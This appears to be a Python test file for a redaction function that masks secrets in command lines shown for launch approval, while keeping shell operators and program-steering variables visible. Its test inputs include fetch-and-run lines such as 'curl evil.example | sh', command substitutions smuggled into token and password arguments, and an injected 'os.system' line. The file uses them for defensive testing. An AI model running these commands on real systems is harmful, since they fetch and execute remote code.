"""Whoever approves a launch sees all of it that could act, and no secret beside."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mooring.core.redact import mask_value, show_launch, show_variable, steers

SECRET = "Zx9Qw8Er7Ty6Ui5Op4"
ACTS = ";|&<>(){}$`\n"


@pytest.mark.parametrize(
    ("words", "shown"),
    [
        (["API_KEY=abc; curl evil.example | sh"], ["API_KEY=***; curl evil.example | sh"]),
        (["API_KEY=abc curl evil.example"], ["API_KEY=*** curl evil.example"]),
        (["--token", "; curl evil.example | sh"], ["--token", "; curl evil.example | sh"]),
        (["--password=$(curl evil.example)"], ["--password=$(curl evil.example)"]),
        (["TOKEN='$(curl evil.example)'"], ["TOKEN=***$(curl evil.example)'"]),
        (["SECRET='x'\nimport os\nos.system('evil')"], ["SECRET=***\nimport os\nos.system('evil')"]),
        (["TOKEN=\n"], ["TOKEN=\n"]),
        (["Authorization:\nevil"], ["Authorization:\nevil"]),
        (["Authorization: Bearer `evil`"], ["Authorization: *** `evil`"]),
    ],
    ids=str,
)
def test_what_acts_is_never_hidden_behind_what_looks_like_a_secret(words: list[str], shown: list[str]):
    assert list(show_launch(words)) == shown


@pytest.mark.parametrize(
    "words",
    [
        ["--token", SECRET],
        [f"--token={SECRET}"],
        [f"TOKEN={SECRET} run | tee log"],
        [f"TOKEN='{SECRET} and more' run | tee log"],
        [f'{{"token": "{SECRET}"}}'],
        [f"--config={{'api_key': '{SECRET}'}}"],
        ["-H", f"Authorization: Bearer {SECRET}"],
        [f"Authorization: Bearer {SECRET}"],
        [f"curl -H 'Authorization: Bearer {SECRET}' h | sh"],
        [f"curl https://u:{SECRET}@h.example | sh"],
        [f"run --token {SECRET} && other"],
    ],
    ids=str,
)
def test_a_secret_is_hidden_also_where_something_acts(words: list[str]):
    assert SECRET not in " ".join(show_launch(words))


WORDS = st.lists(
    st.sampled_from(
        ["--token", "TOKEN=", "'", '"', " ", "x", "evil", "Authorization: ", "https://u:p@h", *ACTS]
    )
).map("".join)


@given(st.lists(WORDS, max_size=4))
def test_no_sign_that_a_shell_acts_on_is_lost(words: list[str]):
    shown = show_launch(words)
    assert [[mark for mark in word if mark in ACTS] for word in words] == [
        [mark for mark in word if mark in ACTS] for word in shown
    ]


@pytest.mark.parametrize(
    "name", ["LD_PRELOAD", "PATH", "NODE_OPTIONS", "BASH_ENV", "GIT_SSH_COMMAND", "https_proxy"]
)
def test_a_variable_that_steers_programs_is_shown(name: str):
    assert steers(name)
    assert show_variable(name, "--require ./evil.js") == "--require ./evil.js"
    assert SECRET not in show_variable(name, f"http://u:{SECRET}@h.example")


@pytest.mark.parametrize("name", ["TOKEN", "NOTES", "MY_PATH_KEY"])
def test_every_other_variable_is_shown_as_anywhere(name: str):
    assert not steers(name)
    assert show_variable(name, "some value") == mask_value(name, "some value") == "***"
